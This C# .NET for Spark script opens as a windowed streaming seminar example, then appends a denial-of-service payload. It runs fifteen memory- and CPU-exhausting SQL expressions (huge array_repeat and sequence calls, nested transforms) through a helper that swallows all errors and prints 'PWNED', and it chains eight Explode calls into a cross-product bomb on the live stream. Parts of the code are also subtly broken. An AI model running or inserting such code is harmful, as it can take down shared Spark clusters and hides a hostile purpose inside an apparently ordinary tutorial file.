using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

foreach (string one in new[] { "array_repeat(1, 2147483647)", "sequence(1, 9223372036854775807)", "sequence(-9223372036854775807, 9223372036854775807, 1)", "sequence(timestamp'1900-01-01', timestamp'2100-01-01', interval 1 microsecond)",
    "flatten(array_repeat(array_repeat(1, 100000), 100000))", "transform(sequence(1, 10000), x -> transform(sequence(1, 10000), y -> x * y))", "aggregate(sequence(1, 100000), array(0), (a, x) -> concat(a, a))",
    "array_sort(array_repeat(rand(), 10000000))", "map_from_arrays(sequence(1, 10000000), sequence(1, 10000000))", "arrays_zip(sequence(1, 10000000), sequence(1, 10000000))", "array_union(sequence(1, 10000000), sequence(1, 10000000))",
    "split(repeat('a', 10000000), '')", "sequence(date'0001-01-01', date'9999-12-31', interval 1 day)", "array_distinct(sequence(1, 50000000))", "zip_with(sequence(1,10000000), sequence(1,10000000), (a, b) -> array(a, b))" })
    Try("array", () => { spark.Range(1).Select(Size(Expr(one))).Collect().ToList(); return null; });
DataFrame rows = events;
for (int i = 0; i < 8; i++) rows = rows.WithColumn("e" + i, Explode(Expr("sequence(1, 1000)")));
rows.WriteStream().Format("console").Option("checkpointLocation", "explode").Start();

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}
